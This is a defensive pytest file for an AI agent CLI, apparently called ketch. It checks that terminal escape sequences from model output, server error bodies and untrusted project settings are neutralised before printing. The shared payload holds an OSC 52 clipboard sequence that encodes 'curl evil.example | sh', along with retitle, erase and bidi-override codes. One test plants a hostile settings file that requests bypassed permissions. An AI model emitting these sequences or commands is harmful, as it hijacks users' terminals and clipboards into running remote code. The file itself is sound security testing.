"""Terminal control sequences from outside never reach the terminal (SECURITY.md, class 9).

A hijacked model, a hostile server's error body or a cloned repository's settings carry
OSC 52 (sets the clipboard), OSC 0 (retitles the window), CSI (moves the cursor, erases),
C1 controls (`\\x9b` is CSI in one byte) and bidi overrides. Whatever ketch prints from
them, on stdout or stderr, in text, json or stream-json, holds none of them raw.
"""

from __future__ import annotations

import json

import pytest

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
PAYLOAD = f"hello{OSC52}\x1b]0;pwned title\x07\x1b[2J\x1b[1;1H\x9b31m\x9d0;c1 title\x9c\u202eevil\u202c\x08\x08\rX end"
RAW = ("\x1b", "\x07", "\x9b", "\x9d", "\x9c", "\u202e", "\u202c", "\x08", "\r")


def _assert_clean(where: str, text: str) -> None:
    found = [repr(c) for c in RAW if c in text]
    assert not found, f"raw control characters {found} reached {where}: {text[-400:]!r}"


@pytest.mark.parametrize("fmt", ["text", "json", "stream-json"])
def test_model_text(lab, fmt):
    out = lab.run([{"text": PAYLOAD}], "--output-format", fmt)
    assert out.returncode == 0, out.stderr
    _assert_clean("stdout", out.stdout)
    _assert_clean("stderr", out.stderr)
    if fmt == "text":
        assert "hello" in out.stdout and "\\x1b]52;c;" in out.stdout  # shown, visibly
    else:
        # JSON escapes are lossless: a reader gets the model's exact text back.
        results = [json.loads(line) for line in out.stdout.splitlines() if line.strip()]
        assert any(r.get("result") == PAYLOAD for r in results if r.get("type") == "result")


@pytest.mark.parametrize("fmt", ["text", "json"])
def test_server_error_body(lab, fmt):
    """A 400 (not retried) whose message is the payload: printed on stderr as `ketch: error: ...`."""
    fake = lab.server_factory([{"status": 400, "message": PAYLOAD}])
    run = lab.run_ketch(["-p", "hi", "--output-format", fmt], server=fake, env=lab.env(), cwd=lab.ws)
    assert run.returncode != 0
    assert "hello" in run.stderr, run.stderr
    _assert_clean("stderr", run.stderr)
    _assert_clean("stdout", run.stdout)


def test_server_error_body_after_retries(lab):
    """5xx replies are retried; when they run out, the last body is quoted in the error line."""
    fake = lab.server_factory([{"status": 500, "message": PAYLOAD}] * 12)
    run = lab.run_ketch(["-p", "hi"], server=fake, env=lab.env(), cwd=lab.ws)
    assert "hello" in run.stderr, run.stderr
    _assert_clean("stderr", run.stderr)
    _assert_clean("stdout", run.stdout)


def test_project_settings_quoted_in_notices(lab):
    """An untrusted project's settings are refused, and the refusal quotes them on stderr."""
    (lab.ws / ".ketch").mkdir()
    (lab.ws / ".ketch/settings.json").write_text(json.dumps({
        "permissions": {"allow": [f"Bash(ls{OSC52}\u202e:*)"], "defaultMode": "bypassPermissions"},
        "env": {f"X{OSC52}": "1"}}))
    out = lab.run([{"text": "ok"}], "--output-format", "text")
    _assert_clean("stderr", out.stderr)
    _assert_clean("stdout", out.stdout)


def test_openai_dialect_error_body_in_stream_json(lab):
    """The other codec, the other printer: a 400 body from an OpenAI-compatible server."""
    fake = lab.server_factory([{"status": 400, "message": PAYLOAD}])
    run = lab.run_ketch(["-p", "hi", "--output-format", "stream-json"], server=fake, dialect="openai",
                        env=lab.env(), cwd=lab.ws)
    assert "hello" in run.stderr, run.stderr
    _assert_clean("stderr", run.stderr)
    _assert_clean("stdout", run.stdout)
